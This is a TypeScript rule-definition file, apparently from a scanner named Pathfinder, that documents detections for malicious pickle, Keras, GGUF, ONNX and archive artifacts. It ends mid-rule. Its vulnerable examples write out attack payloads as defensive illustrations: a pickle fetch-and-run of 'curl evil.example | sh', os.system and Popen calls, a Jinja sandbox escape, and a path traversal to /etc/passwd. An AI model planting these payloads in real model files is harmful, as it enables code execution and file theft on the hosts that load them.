// Rules for model and data files (pickle-bearing artifacts, Keras model configs). One RuleMeta per issue family; the
// analysers' PickleIssue kinds map onto them in `ruleForIssue`.
import type { ComplianceMapping, FaqEntry, Reference, RuleMeta } from "../core/types.js";
import type { PickleIssue, PickleIssueKind } from "./types.js";

const COMPLIANCE: ComplianceMapping[] = [
  { framework: "OWASP Top 10 2021", control: "A08:2021 Software and Data Integrity Failures" },
  { framework: "CWE Top 25", control: "CWE-502 Deserialization of Untrusted Data" },
  { framework: "NIST SP 800-53 Rev. 5", control: "SI-7 Software, Firmware, and Information Integrity" },
  { framework: "NIST SP 800-218 (SSDF)", control: "PW.4.1 Acquire and maintain well-secured components" },
  { framework: "PCI DSS 4.0", control: "6.2.4 Software engineering techniques prevent common attacks" },
];

const REFERENCES: Reference[] = [
  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
  { title: "OWASP A08:2021 Software and Data Integrity Failures", url: "https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/" },
  { title: "Python docs: pickle, Restricting Globals", url: "https://docs.python.org/3/library/pickle.html#restricting-globals" },
  { title: "PyTorch docs: torch.load and weights_only", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
  { title: "Hugging Face: Pickle scanning", url: "https://huggingface.co/docs/hub/security-pickle" },
  { title: "safetensors", url: "https://github.com/huggingface/safetensors" },
];

const SAFE_EXAMPLE = [
  "# Load tensors only: weights_only refuses every global outside PyTorch's allowlist",
  'state = torch.load("model.pt", weights_only=True)',
  "",
  "# Better: a format that cannot run code",
  "from safetensors.torch import load_file",
  'state = load_file("model.safetensors")',
].join("\n");

const COMMON_FAQ: FaqEntry[] = [
  {
    question: "Does Pathfinder load or unpickle the file?",
    answer:
      "No. It reads the bytes and interprets pickle opcodes symbolically; nothing is imported or executed, and tensor data is skipped without being read.",
  },
  {
    question: "The file is named .pt/.bin/.npy; why is it treated as a zip, tar or pickle?",
    answer:
      "Loaders decide by content, not by name, so Pathfinder does too. The extension is only a hint for which files to look at.",
  },
];

const SCOPE =
  "Raw pickles (protocols 0-5, stacked streams), zip archives read through our own central-directory parser " +
  "(zip64, prepended data, missing end record, name mismatches, stored/deflate/bzip2/LZMA members, every member " +
  "that parses as a pickle), PyTorch " +
  "zip checkpoints (`*/data.pkl`, tensor members skipped), legacy PyTorch stacked and tar checkpoints, .npy/.npz " +
  "object arrays, joblib files (zlib/gzip/bz2/xz/lzma compression, inline array bytes skipped by declared size, " +
  "object-array pickles), gzip/bz2/xz/lzma/zstd-wrapped pickles (zip members with zstd too). Keras model configs " +
  "have rules of their own (KERAS-ARTIFACT-001 to 003). " +
  "Past the analyser's opcode and stack limits the rest of a stream is swept for the globals it names. Large inline byte strings and tensor data are " +
  "skipped by their declared sizes, so multi-GB files are never read whole; decompression is bounded by " +
  "`maxDecompressedBytes`. 7z, RAR and LZ4 archives (and zip members compressed with other methods) are " +
  "reported as uninspectable.";

/** What the rules of one artifact family (pickle-bearing files, Keras configs) share in their metadata. */
interface RuleFamily {
  tag: string;
  scope: string;
  references: Reference[];
  safeExample: string;
  faq: FaqEntry[];
}

const PICKLE_FAMILY: RuleFamily = { tag: "pickle", scope: SCOPE, references: REFERENCES, safeExample: SAFE_EXAMPLE, faq: COMMON_FAQ };

function artifactRule(
  meta: Pick<RuleMeta, "id" | "name" | "severity" | "confidence" | "precision" | "tags" | "similar"> & {
    /** Weaknesses beside CWE-502 (the loading of an untrusted model file is always one). */
    moreCwe?: string[];
    docs: Omit<RuleMeta["docs"], "references" | "faq" | "detectionScope" | "safeExample"> & {
      faq?: FaqEntry[];
      safeExample?: string;
    };
  },
  family: RuleFamily = PICKLE_FAMILY,
): RuleMeta {
  return {
    id: meta.id,
    name: meta.name,
    language: "artifact",
    severity: meta.severity,
    confidence: meta.confidence,
    precision: meta.precision,
    cwe: ["CWE-502", ...(meta.moreCwe ?? [])],
    owasp: ["A08:2021"],
    compliance: COMPLIANCE,
    tags: [family.tag, "deserialization", "artifact", "ml", "supply-chain", ...meta.tags],
    bundles: ["artifacts"],
    banditIds: [],
    similar: meta.similar,
    docs: {
      ...meta.docs,
      safeExample: meta.docs.safeExample ?? family.safeExample,
      detectionScope: family.scope,
      references: family.references,
      faq: [...(meta.docs.faq ?? []), ...family.faq],
    },
  };
}

export const PICKLE_ARTIFACT_DANGEROUS_CALL = artifactRule({
  id: "PICKLE-ARTIFACT-001",
  name: "Pickle Artifact Calls a Dangerous Global",
  severity: "critical",
  confidence: "high",
  precision: "very-high",
  tags: ["code-execution"],
  similar: ["PICKLE-ARTIFACT-002", "PICKLE-ARTIFACT-003"],
  docs: {
    summary: "A pickle inside this file calls a function that can run code, spawn processes or touch files when it is loaded.",
    description:
      "Unpickling executes the opcodes in the file. `REDUCE`, `NEWOBJ`, `OBJ`, `INST` and `BUILD` call whatever global the " +
      "pickle imported, with arguments the pickle chose. This file calls a global on the denylist (for example " +
      "`os.system`, `subprocess.Popen`, `builtins.exec`, `builtins.eval`, `runpy._run_code`), so loading it with " +
      "`pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `np.load(allow_pickle=True)` runs that call.",
    securityImplications:
      "Arbitrary code execution with the privileges of whoever loads the file: credential theft, lateral movement from " +
      "training or inference hosts, tampered models. This is the classic malicious-model supply-chain attack.",
    howToFix:
      "Do not load the file. Obtain the artifact from a trusted source and verify it (hash or signature). Convert models " +
      "to safetensors or ONNX, load PyTorch checkpoints with `weights_only=True`, and keep `allow_pickle=False` for NumPy.",
    fixHint: "Do not load this file; re-export it as safetensors, or load with torch.load(..., weights_only=True).",
    vulnerableExample: [
      "class Payload:",
      "    def __reduce__(self):",
      '        return (os.system, ("curl evil.example | sh",))',
      "",
      'torch.save({"model": Payload()}, "model.pt")   # loading model.pt runs the command',
    ].join("\n"),
    faq: [
      {
        question: "Could the call be harmless?",
        answer: "Only if the arguments are; the policy flags the capability. A legitimate model never needs to call os.system or exec.",
      },
    ],
  },
});

export const PICKLE_ARTIFACT_DANGEROUS_IMPORT = artifactRule({
  id: "PICKLE-ARTIFACT-002",
  name: "Pickle Artifact Imports a Dangerous Global",
  severity: "high",
  confidence: "medium",
  precision: "high",
  tags: ["code-execution"],
  similar: ["PICKLE-ARTIFACT-001"],
  docs: {
    summary: "A pickle inside this file imports a dangerous global without visibly calling it.",
    description:
      "`GLOBAL`/`STACK_GLOBAL` import any attribute of any module while loading. A denylisted global (for example " +
      "`os.system` or `builtins.getattr`) is referenced here although no direct call was seen; it may be called " +
      "indirectly (through a memo, a container or a later `BUILD`), which symbolic analysis cannot always follow.",
    securityImplications:
      "Importing a module can itself run code (module import side effects), and an imported callable is one opcode away " +
      "from being invoked. Treat the file as untrusted.",
    howToFix:
      "Do not load the file from untrusted sources. Re-create the artifact from trusted code, or load it with a restricted " +
      "unpickler (`find_class` allowlist) or `torch.load(weights_only=True)`.",
    fixHint: "Treat the file as untrusted; load it only with an allowlisting unpickler.",
    vulnerableExample: ["# protocol 0 pickle that imports os.system", "cos\\nsystem\\n(S'id'\\ntR."].join("\n"),
  },
});

export const PICKLE_ARTIFACT_DYNAMIC_GLOBAL = artifactRule({
  id: "PICKLE-ARTIFACT-003",
  name: "Pickle Artifact Uses an Unresolvable or Self-Modifying Global",
  severity: "critical",
  confidence: "medium",
  precision: "high",
  tags: ["obfuscation", "code-execution"],
  similar: ["PICKLE-ARTIFACT-001"],
  docs: {
    summary: "A pickle builds the name of the global it imports at load time, uses the copyreg extension registry, or rewrites a module.",
    description:
      "`STACK_GLOBAL` with operands that are not constant strings (for example the result of a call), `EXT1/EXT2/EXT4` " +
      "codes resolved through the process's copyreg registry, and `BUILD` applied to a module or function object " +
      "(overwriting its attributes) all hide what will really run. Scanners that match names cannot see through them, " +
      "which is why attackers use them.",
    securityImplications:
      "The real target cannot be known statically; legitimate serializers never produce these shapes in model files, so " +
      "they indicate an attempt to evade scanning and execute code.",
    howToFix: "Do not load the file. Regenerate the artifact from trusted code and store weights in safetensors.",
    fixHint: "Obfuscated pickle: do not load it.",
    vulnerableExample: [
      "# STACK_GLOBAL whose module name is computed by a call",
      "\\x80\\x04 ... builtins getattr ... REDUCE ... STACK_GLOBAL ... REDUCE",
    ].join("\n"),
  },
});

export const PICKLE_ARTIFACT_UNKNOWN_GLOBAL = artifactRule({
  id: "PICKLE-ARTIFACT-004",
  name: "Pickle Artifact References a Global Outside the Allowlist",
  severity: "medium",
  confidence: "medium",
  precision: "medium",
  tags: ["allowlist", "policy"],
  similar: ["PICKLE-ARTIFACT-002"],
  docs: {
    summary: "A pickle imports a global that is not on the allowlist (nor defined in the project, nor allowed by configuration) without calling it.",
    description:
      "The default policy trusts the exact globals real library files use (generated from scikit-learn, PyTorch, NumPy, " +
      "pandas, SciPy and joblib) plus `--pickle-allow` entries. A global outside that set that loading only imports " +
      "(never calls) is reported at medium severity so that a reviewer " +
      "decides whether it is expected.",
    securityImplications:
      "An unexpected class can run code through its `__reduce__`, `__setstate__` or constructor. Unknown is not proven " +
      "malicious, but it widens what loading the file can do.",
    howToFix:
      "If the class is expected and trusted, allow it (`--pickle-allow module.Name`, or `module.*`). Otherwise remove it " +
      "from the artifact, e.g. save only a `state_dict` of tensors.",
    fixHint: "Review the global; allow it with --pickle-allow if trusted, or save only tensors.",
    vulnerableExample: ['torch.save(MyModel(), "model.pt")   # pickles mypackage.models.MyModel'].join("\n"),
    safeExample: ['torch.save(model.state_dict(), "model.pt")   # tensors and OrderedDict only'].join("\n"),
  },
});

export const PICKLE_ARTIFACT_UNKNOWN_CALL = artifactRule({
  id: "PICKLE-ARTIFACT-008",
  name: "Pickle Artifact Calls a Global Not Known to Be Safe",
  severity: "high",
  confidence: "medium",
  precision: "high",
  tags: ["allowlist", "code-execution"],
  similar: ["PICKLE-ARTIFACT-001", "PICKLE-ARTIFACT-004"],
  docs: {
    summary: "Loading this file calls a global that is not on the allowlist of known-safe globals, or calls a value computed at load time.",
    description:
      "The default policy judges what loading would do, not whether a name is on a list of known gadgets: every call " +
      "that unpickling performs (`REDUCE`, `NEWOBJ`, `NEWOBJ_EX`, `OBJ`, `INST`, and classes that helpers such as " +
      "`copyreg._reconstructor` instantiate) must target a global on the exact-name allowlist generated from real " +
      "scikit-learn, PyTorch, NumPy, pandas, SciPy and joblib files, a global defined in the scanned project, or a " +
      "global you allowed. Calling anything else, or calling the result of another call (`getattr(...)(...)`), is " +
      "reported: the supply of gadget functions attackers can call is endless, and name denylists miss new ones.",
    securityImplications:
      "An unknown function called with arguments the file chose can run commands, write files, import modules or load " +
      "another pickle. Unknown is not proof of malice, but the file can do more than a model or data file needs.",
    howToFix:
      "If the global is expected (your own library's class saved with the model), add it with `--pickle-allow " +
      "module.Name` or the `pickle-allow` configuration list. Otherwise do not load the file; save weights with " +
      "`state_dict()` and safetensors instead of whole objects.",
    fixHint: "Allow the global with --pickle-allow if you trust it; otherwise do not load the file.",
    vulnerableExample: [
      "# a gadget no denylist knew about",
      "class Payload:",
      "    def __reduce__(self):",
      '        return (torch.utils.bottleneck.__main__.run_cprofile, ("import os; os.system(\'id\')", {}))',
    ].join("\n"),
    safeExample: ['torch.save(model.state_dict(), "model.pt")   # only allowlisted tensor globals'].join("\n"),
  },
});

export const PICKLE_ARTIFACT_MALFORMED = artifactRule({
  id: "PICKLE-ARTIFACT-005",
  name: "Malformed Pickle After Importing Globals",
  severity: "high",
  confidence: "medium",
  precision: "medium",
  tags: ["evasion"],
  similar: ["PICKLE-ARTIFACT-006"],
  docs: {
    summary: "A pickle imports globals and then breaks (bad opcode, truncated data, stack misuse).",
    description:
      "Python's unpickler executes opcodes as it reads them, so everything before the error has already run when the " +
      "load fails. Some scanners give up on a parse error and report the file as clean; attackers exploit that by " +
      "appending garbage after the payload (the 'broken pickle' trick).",
    securityImplications: "The payload before the break executes on load even though the load ultimately raises an exception.",
    howToFix: "Do not load the file. A legitimate serializer never writes a malformed stream.",
    fixHint: "Broken pickle with globals: do not load it.",
    vulnerableExample: ["cos\\nsystem\\n(S'id'\\ntR\\xff\\xff  # payload, then invalid opcodes"].join("\n"),
  },
});

export const PICKLE_ARTIFACT_CONTAINER_TRICK = artifactRule({
  id: "PICKLE-ARTIFACT-006",
  name: "Artifact Container Is Inconsistent",
  severity: "high",
  confidence: "high",
  precision: "high",
  tags: ["evasion", "zip"],
  similar: ["PICKLE-ARTIFACT-005"],
  docs: {
    summary: "The archive's own metadata disagrees with itself (zip central vs local names or methods, duplicate member names).",
    description:
      "Zip readers differ in which header they trust: some use the central directory, some stream local headers, and " +
      "duplicate names resolve to the first or the last entry. A member named `data.pkl` in one place and something " +
      "harmless in another lets a malicious pickle pass a scanner that reads one view while the loader reads the other.",
    securityImplications:
      "A benign-looking archive can carry a payload that only some readers see; it indicates deliberate scanner evasion.",
    howToFix: "Reject the file and re-create the archive with a standard tool (e.g. `torch.save`, `zipfile`).",
    fixHint: "Inconsistent archive metadata: re-create the archive from trusted sources.",
    vulnerableExample: [
      "# central directory: archive/data.pkl   local header: archive/version",
      "# both point at a pickle that calls os.system",
    ].join("\n"),
  },
});

export const PICKLE_ARTIFACT_UNINSPECTABLE = artifactRule({
  id: "PICKLE-ARTIFACT-007",
  name: "Artifact Archive Cannot Be Inspected",
  severity: "medium",
  confidence: "low",
  precision: "low",
  tags: ["coverage"],
  similar: [],
  docs: {
    summary: "The file is an archive format (7z, RAR, LZ4, or an unsupported zip method) that Pathfinder cannot look inside, or its decompressed content exceeds the limits.",
    description:
      "Models are sometimes shipped inside archives that are extracted before loading. Pathfinder reads zip, tar, gzip, " +
      "bzip2, xz, lzma and zstd itself; for other formats it cannot tell whether a pickle is inside, so it says so instead of " +
      "reporting the file as clean.",
    securityImplications: "Contents are unverified: a malicious pickle inside would not be detected.",
    howToFix: "Extract the archive and scan the extracted files, or ship the artifact as zip/tar or safetensors.",
    fixHint: "Extract the archive and scan its contents.",
    vulnerableExample: ["model.7z  ->  model.pkl (not inspected)"].join("\n"),
    safeExample: ["pathfinder scan extracted/   # scan the unpacked files instead"].join("\n"),
  },
});

// ---- Keras model configurations -------------------------------------------------------------------------
// A Keras model file's JSON config is not a pickle, but load_model rebuilds every object it names, so it gets
// rules of its own (a user reading "pickle" on a .keras file would be misled, and Keras verdicts can be tuned alone).

const KERAS_REFERENCES: Reference[] = [
  { title: "CWE-502: Deserialization of Untrusted Data", url: "https://cwe.mitre.org/data/definitions/502.html" },
  { title: "Keras docs: safe_mode in keras.saving.load_model", url: "https://keras.io/api/models/model_saving_apis/model_saving_and_loading/" },
  { title: "CVE-2024-3660 (Keras Lambda layers run code on load before 2.13)", url: "https://nvd.nist.gov/vuln/detail/CVE-2024-3660" },
  { title: "CVE-2025-1550 (Keras config modules imported on load)", url: "https://nvd.nist.gov/vuln/detail/CVE-2025-1550" },
  { title: "CVE-2025-9906 (enable_unsafe_deserialization named inside a config)", url: "https://nvd.nist.gov/vuln/detail/CVE-2025-9906" },
  { title: "Keras PR 21575: no torch.load in TorchModuleWrapper in safe mode", url: "https://github.com/keras-team/keras/pull/21575" },
];

const KERAS_SAFE_EXAMPLE = [
  "# Keep safe mode on (the default) and a current Keras; it refuses Lambda bytecode and pickled modules",
  'model = keras.saving.load_model("model.keras", safe_mode=True)',
  "",
  "# Better for shared weights: a format that holds no code",
  'model.save_weights("model.weights.h5")   # rebuild the architecture from your own code',
].join("\n");

const KERAS_SCOPE =
  "A legacy Keras .h5 model's `model_config` attribute (fixed or variable-length strings, after a user block), a " +
  "`.keras` archive's `config.json` (under any file name: Keras sniffs the zip), and a TensorFlow SavedModel's " +
  "`keras_metadata.pb`. Every object in the JSON is judged: Lambda bytecode (Keras 2 and 3 spellings), `module` + " +
  "`class_name` pairs and functions by reference, Keras' own loader gadgets, lookup layers reading a vocabulary path, " +
  "and `TorchModuleWrapper` layers, whose base64 `module` is a `torch.save` file scanned like any other artifact. " +
  "Modules defined in the scanned project are judged by their source, as the pickle rules judge project globals.";

const KERAS_FAQ: FaqEntry[] = [
  {
    question: "Does Pathfinder load the model?",
    answer: "No. It reads the JSON config out of the file's bytes; nothing is imported, unmarshalled or executed.",
  },
  {
    question: "My model uses a custom layer from my own package; why is it (not) reported?",
    answer:
      "When the scanned project defines the class (`my_project/layers.py` defines `Attention` for `my_project.layers.Attention`), " +
      "the layer is ordinary and is reported only if the code loading runs (`__init__`, `from_config`, ...) reaches a command, " +
      "eval or file deletion. A module that is neither Keras nor the project's is reported: loading imports it.",
  },
];

const KERAS_FAMILY: RuleFamily = { tag: "keras", scope: KERAS_SCOPE, references: KERAS_REFERENCES, safeExample: KERAS_SAFE_EXAMPLE, faq: KERAS_FAQ };

export const KERAS_ARTIFACT_CODE = artifactRule({
  id: "KERAS-ARTIFACT-001",
  name: "Keras Model Carries Code That Loading Runs",
  severity: "critical",
  confidence: "high",
  precision: "very-high",
  tags: ["code-execution", "lambda"],
  similar: ["KERAS-ARTIFACT-002", "PICKLE-ARTIFACT-001"],
  docs: {
    summary: "A Keras model's config holds a Lambda layer's marshalled Python bytecode.",
    description:
      "Keras serialises a `Lambda` layer's Python function as marshalled bytecode (base64) in the model config. " +
      "`load_model` unmarshals and runs it whenever safe mode is off: in Keras before 2.13 whatever the caller asked " +
      "(CVE-2024-3660), for legacy .h5 files in Keras 3 before 3.11 (CVE-2025-9905), with `safe_mode=False`, and after a " +
      "config that names `keras.config.enable_unsafe_deserialization` (CVE-2025-9906).",
    securityImplications:
      "Arbitrary code execution with the privileges of whoever loads the model, in the same way as a malicious pickle.",
    howToFix:
      "Do not load the model from an untrusted source. Replace Lambda layers with subclassed layers defined in your code, " +
      "keep `safe_mode=True`, and share weights (`save_weights`) rather than whole models.",
    fixHint: "Do not load this model; keep safe_mode=True and replace Lambda layers with code-defined layers.",
    vulnerableExample: [
      'model.add(keras.layers.Lambda(lambda x: __import__("os").system("id") or x))',
      'model.save("model.h5")   # the lambda\'s bytecode is stored in model_config',
    ].join("\n"),
  },
}, KERAS_FAMILY);

export const KERAS_ARTIFACT_IMPORT = artifactRule({
  id: "KERAS-ARTIFACT-002",
  name: "Keras Model Imports Code Outside Keras",
  severity: "high",
  // Loading imports the module for certain (Keras < 3.9, Keras 2): what is uncertain is only what it does, as the severity says.
  confidence: "high",
  precision: "high",
  tags: ["code-execution", "allowlist"],
  similar: ["KERAS-ARTIFACT-001", "PICKLE-ARTIFACT-008"],
  docs: {
    summary: "A Keras model's config names a class or function from a module that is neither Keras nor defined in the scanned project.",
    description:
      "Each object in a Keras config carries a `module` and a `class_name` (or, for a function, its name). Keras 3 before " +
      "3.9 imports any such module and calls what it names (CVE-2025-1550); Keras 2 looks a Lambda's named function up " +
      "the same way. A denylisted target (`subprocess.Popen`, `builtins.exec`, `os.system`) is critical; any other module " +
      "outside Keras and the project is high, since loading imports it and calls it with arguments the file chose. A class " +
      "the scanned project defines is reported only when the code loading runs reaches a dangerous call.",
    securityImplications:
      "Importing an attacker-chosen module and calling one of its functions with attacker-chosen arguments runs code.",
    howToFix:
      "Load only models whose custom objects you wrote, pass them explicitly (`custom_objects=`), and upgrade Keras to a " +
      "version that restricts config modules. If the module is your own package outside this project, review it and " +
      "suppress the finding.",
    fixHint: "Review the named module; load the model only with custom_objects you trust and a current Keras.",
    vulnerableExample: [
      '{"module": "subprocess", "class_name": "Popen",',
      ' "config": {"args": ["sh", "-c", "id"]}}   # a "layer" in config.json',
    ].join("\n"),
  },
}, KERAS_FAMILY);

export const KERAS_ARTIFACT_GADGET = artifactRule({
  id: "KERAS-ARTIFACT-003",
  name: "Keras Model Uses a Keras Loader Gadget",
  severity: "critical",
  confidence: "high",
  precision: "high",
  tags: ["code-execution", "file-access"],
  similar: ["KERAS-ARTIFACT-001", "KERAS-ARTIFACT-002"],
  docs: {
    summary: "A Keras model's config uses one of Keras' own helpers that switches safe mode off, downloads, reads files or unpickles.",
    description:
      "Names inside Keras' own namespace pass Keras' module checks, yet some do far more than build a layer: " +
      "`keras.config.enable_unsafe_deserialization` turns safe mode off for the rest of the load (CVE-2025-9906), " +
      "`keras.utils.get_file` downloads (CVE-2025-8747), `TFSMLayer` loads a SavedModel from a path the file names, " +
      "lookup layers read a `vocabulary` file or URL (CVE-2025-12058), and `TorchModuleWrapper` unpickles its base64 " +
      "`module` with `torch.load(weights_only=False)` (Keras before 3.11.3 even in safe mode). TensorFlow, Keras' " +
      "backend, is trusted except for the functions that load native libraries (`tf.load_op_library`), call Python " +
      "from the graph (`tf.py_function`, `tf.numpy_function`) or touch files (`tf.io.read_file`/`write_file`, " +
      "`tf.io.gfile`, `tf.saved_model.load`).",
    securityImplications:
      "Safe mode bypassed, files read or fetched from attacker-chosen locations, or a pickle run on load.",
    howToFix:
      "Do not load the model from an untrusted source; upgrade Keras; rebuild the architecture in code and load weights only.",
    fixHint: "Do not load this model: it uses a Keras helper that loads, downloads or unlocks more code.",
    vulnerableExample: [
      '{"module": "keras.config", "class_name": "function",',
      ' "config": "enable_unsafe_deserialization"}   # followed by a Lambda layer',
    ].join("\n"),
  },
}, KERAS_FAMILY);

const GGUF_REFERENCES: Reference[] = [
  { title: "GGUF file format (ggml docs/gguf.md)", url: "https://github.com/ggml-org/ggml/blob/master/docs/gguf.md" },
  { title: "CVE-2024-34359 (llama-cpp-python renders a GGUF chat template without a sandbox)", url: "https://nvd.nist.gov/vuln/detail/CVE-2024-34359" },
  { title: "Jinja: Sandbox", url: "https://jinja.palletsprojects.com/en/stable/sandbox/" },
  { title: "CWE-1336: Improper Neutralization of Special Elements Used in a Template Engine", url: "https://cwe.mitre.org/data/definitions/1336.html" },
];

const GGUF_SAFE_EXAMPLE = [
  "# Render chat templates in Jinja's immutable sandbox (llama-cpp-python >= 0.2.72 does)",
  "from jinja2.sandbox import ImmutableSandboxedEnvironment",
  "env = ImmutableSandboxedEnvironment(trim_blocks=True, lstrip_blocks=True)",
  "prompt = env.from_string(metadata[\"tokenizer.chat_template\"]).render(messages=messages)",
].join("\n");

const GGUF_SCOPE =
  "GGUF files (versions 1 to 3, either byte order): the header's metadata and tensor descriptions are read with every " +
  "count and length checked against the file's size; tensor data is never read. Every `tokenizer.chat_template` " +
  "string (and named templates such as `tokenizer.chat_template.tool_use`) is judged as Jinja code: Python internal " +
  "names (`__class__`, `__globals__`, `__subclasses__`, frame and function attributes), command calls reached through " +
  "attributes, and names hidden by escaped underscores, character codes, computed `attr` names or pieces joined at " +
  "render time. Text outside `{{ }}` and `{% %}` tags, comments and `{% raw %}` blocks is not code.";

const GGUF_FAQ: FaqEntry[] = [
  {
    question: "Does Pathfinder render the template?",
    answer: "No. It reads the template's text and tokenises its Jinja tags; nothing is rendered, imported or executed.",
  },
];

const GGUF_FAMILY: RuleFamily = { tag: "gguf", scope: GGUF_SCOPE, references: GGUF_REFERENCES, safeExample: GGUF_SAFE_EXAMPLE, faq: GGUF_FAQ };

export const GGUF_ARTIFACT_TEMPLATE = artifactRule({
  id: "GGUF-ARTIFACT-001",
  name: "GGUF Chat Template Reaches Python Internals",
  severity: "critical",
  confidence: "high",
  precision: "very-high",
  tags: ["code-execution", "template-injection"],
  moreCwe: ["CWE-1336"],
  similar: ["KERAS-ARTIFACT-001", "PICKLE-ARTIFACT-001"],
  docs: {
    summary: "A GGUF model's chat template climbs from template objects to Python internals, which is code execution when it is rendered.",
    description:
      "A GGUF file carries its chat template as metadata (`tokenizer.chat_template`), and runtimes render it with Jinja2 " +
      "when the model is loaded or first prompted. Rendered outside Jinja's sandbox (llama-cpp-python before 0.2.72: " +
      "CVE-2024-34359, and any runtime that builds a plain `jinja2.Environment`), a template that walks " +
      "`__class__`, `__mro__`, `__subclasses__`, `__init__.__globals__` or `__builtins__` reaches `os` and runs commands. " +
      "Ordinary chat templates only format messages: they never name a dunder, escape an underscore or compute an " +
      "attribute name.",
    securityImplications:
      "Arbitrary code execution with the privileges of the process that loads the model, triggered by loading or chatting.",
    howToFix:
      "Do not use the model. Upgrade the runtime so that templates render in `ImmutableSandboxedEnvironment`, or " +
      "replace the file's template with a known one (most runtimes accept a template override).",
    fixHint: "Do not load this model; its chat template reaches Python internals. Render templates in a sandbox.",
    vulnerableExample: [
      "tokenizer.chat_template = \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"",
    ].join("\n"),
  },
}, GGUF_FAMILY);

export const GGUF_ARTIFACT_MALFORMED = artifactRule({
  id: "GGUF-ARTIFACT-002",
  name: "GGUF Header With Forged Counts or Lengths",
  severity: "high",
  confidence: "medium",
  precision: "high",
  tags: ["memory-safety", "malformed"],
  moreCwe: ["CWE-20"],
  similar: ["PICKLE-ARTIFACT-005"],
  docs: {
    summary: "A GGUF file's header declares counts or lengths no writer produces (2^31 or more), more than 4 tensor dimensions, or an unknown value type.",
    description:
      "Readers of GGUF trust the header: a string length, array length, tensor count or dimension count larger than " +
      "the file overflowed llama.cpp's and ggml's readers (heap overflows fixed in 2024). A file written by a GGUF " +
      "writer never declares such values, so the header is forged. A header merely cut short (a partial download) is " +
      "a warning, not a finding, and an unknown GGUF version is read no further (a warning).",
    securityImplications: "A crash or a heap overflow in the native reader that loads the model.",
    howToFix: "Do not load the file; download the model again from its publisher and verify its hash.",
    fixHint: "Do not load this file; its GGUF header is forged or damaged.",
    vulnerableExample: "GGUF v3 header: tensor_count = 2**63, then a few bytes",
  },
}, GGUF_FAMILY);

const ONNX_REFERENCES: Reference[] = [
  { title: "ONNX: External Data", url: "https://onnx.ai/onnx/repo-docs/ExternalData.html" },
  { title: "CVE-2024-27318 (onnx external data path traversal)", url: "https://nvd.nist.gov/vuln/detail/CVE-2024-27318" },
  { title: "CVE-2022-25882 (onnx external data directory traversal)", url: "https://nvd.nist.gov/vuln/detail/CVE-2022-25882" },
  { title: "CVE-2024-5187 (onnx.hub tar extraction path traversal)", url: "https://nvd.nist.gov/vuln/detail/CVE-2024-5187" },
];

const ONNX_FAMILY: RuleFamily = {
  tag: "onnx",
  scope:
    "Files named `.onnx` (also inside archives): a bounded walk of the protobuf wire format through the model's " +
    "graph, nodes, attributes, subgraphs, sparse tensors, functions and training graphs, stepping over tensor bytes. " +
    "Each tensor stored externally (`data_location: EXTERNAL`) has its `location` checked.",
  references: ONNX_REFERENCES,
  safeExample: [
    "# Current onnx refuses locations outside the model's folder; keep external data next to the model",
    'onnx.save_model(model, "model.onnx", save_as_external_data=True, location="model.onnx.data")',
  ].join("\n"),
  faq: [
    {
      question: "Does Pathfinder load the model?",
      answer: "No. It reads the protobuf fields that can hold a tensor and skips the tensor bytes; nothing is executed.",
    },
  ],
};

export const ONNX_ARTIFACT_EXTERNAL_PATH = artifactRule({
  id: "ONNX-ARTIFACT-001",
  name: "ONNX External Data Location Leaves the Model's Folder",
  severity: "high",
  confidence: "high",
  precision: "very-high",
  tags: ["path-traversal", "file-access"],
  moreCwe: ["CWE-22"],
  similar: ["PICKLE-ARTIFACT-006"],
  docs: {
    summary: "A tensor of this ONNX model points its external data at an absolute path or climbs out of the model's folder with `..`.",
    description:
      "Large ONNX models keep tensor bytes in separate files named by each tensor's `external_data` `location`. " +
      "`onnx.load` before 1.16 joined that location to the model's folder without checking it (CVE-2024-27318, after " +
      "CVE-2022-25882), so a model could read any file the process can (`/etc/passwd`, keys) into a tensor, and " +
      "re-saving the model wrote there. A location written by ONNX's own tools is a file name inside the folder.",
    securityImplications: "Arbitrary file read on load and arbitrary file write on save, from the permissions of the loading process.",
    howToFix: "Do not load the model; upgrade onnx to 1.16 or later; keep external data files beside the model.",
    fixHint: "Do not load this model: an external data location leaves its folder.",
    vulnerableExample: 'external_data { key: "location" value: "../../../../etc/passwd" }',
  },
}, ONNX_FAMILY);

const ARCHIVE_FAMILY: RuleFamily = {
  tag: "archive",
  scope:
    "Tar archives (v7, ustar, GNU and pax: long names, `K` long link names and pax `path`/`linkpath` records), zip " +
    "archives (header names and Info-ZIP Unicode Path names) and 7z archives (names, and symbolic links marked by " +
    "their attributes, whose data is the target), at the top of a file or nested (a .nemo tarball, a .tar.gz " +
    "checkpoint, a .mar or .keras zip): every " +
    "member name is resolved segment by segment (`/` and `\\` both separate), and every tar or 7z symbolic link is resolved " +
    "from its own directory and every hard link from the archive's root, through the symbolic links extracted before " +
    "them (a chain of links that each look harmless is followed). Names and links that stay inside, such as " +
    "`a/../b` or a link to a sibling, are not reported.",
  references: [
    { title: "CWE-22: Improper Limitation of a Pathname to a Restricted Directory", url: "https://cwe.mitre.org/data/definitions/22.html" },
    { title: "Python docs: tarfile extraction filters", url: "https://docs.python.org/3/library/tarfile.html#tarfile-extraction-filter" },
    { title: "CVE-2024-5187 (onnx.hub tar extraction path traversal)", url: "https://nvd.nist.gov/vuln/detail/CVE-2024-5187" },
    { title: "CVE-2025-12060 (keras.utils.get_file tar extraction path traversal)", url: "https://nvd.nist.gov/vuln/detail/CVE-2025-12060" },
    { title: "Snyk: Zip Slip", url: "https://security.snyk.io/research/zip-slip-vulnerability" },
    { title: "CVE-2022-44900 (py7zr directory traversal)", url: "https://nvd.nist.gov/vuln/detail/CVE-2022-44900" },
  ],
  safeExample: [
    "# Python 3.12+: refuse members and links that leave the folder",
    'with tarfile.open("model.nemo") as tar:',
    '    tar.extractall(workdir, filter="data")',
  ].join("\n"),
  faq: [
    {
      question: "Does Pathfinder extract the archive?",
      answer: "No. It reads the member headers and resolves each name and link target as text; nothing is written.",
    },
  ],
};

export const ARCHIVE_ARTIFACT_PATH_ESCAPE = artifactRule({
  id: "ARCHIVE-ARTIFACT-001",
  name: "Archive Member Escapes the Extraction Folder",
  severity: "high",
  confidence: "high",
  precision: "very-high",
  tags: ["path-traversal", "file-access"],
  moreCwe: ["CWE-22"],
  similar: ["ONNX-ARTIFACT-001", "PICKLE-ARTIFACT-006"],
